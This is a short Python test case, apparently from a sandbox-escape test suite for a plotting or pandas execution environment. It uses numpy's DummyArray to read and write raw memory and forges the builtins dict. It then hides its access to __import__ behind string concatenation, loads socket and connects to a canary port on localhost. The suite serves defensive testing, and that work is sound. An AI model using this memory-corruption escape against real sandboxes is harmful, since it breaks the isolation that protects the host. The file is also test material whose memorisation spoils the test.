# class: module_reach
# technique: socket loaded through the forged builtins dict's import function connects to the canary port (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
# goal: net
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray


def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value


def object_at(address):
    holder = [None]
    items = peek(id(holder) + 24)
    poke(address, peek(address) + 1)
    poke(items, address)
    return holder[0]


builtin = object_at(peek(id(view) + 24))

sock_mod = builtin["_" * 2 + "import" + "_" * 2]("socket")
conn = sock_mod.create_connection(("127.0.0.1", {{CANARY_PORT}}), timeout=3)
conn.sendall(b"GET /anyplot-escape HTTP/1.0\r\n\r\n")
answer = conn.recv(4096)
df = pd.DataFrame({"answer": [answer.decode("latin-1")]})
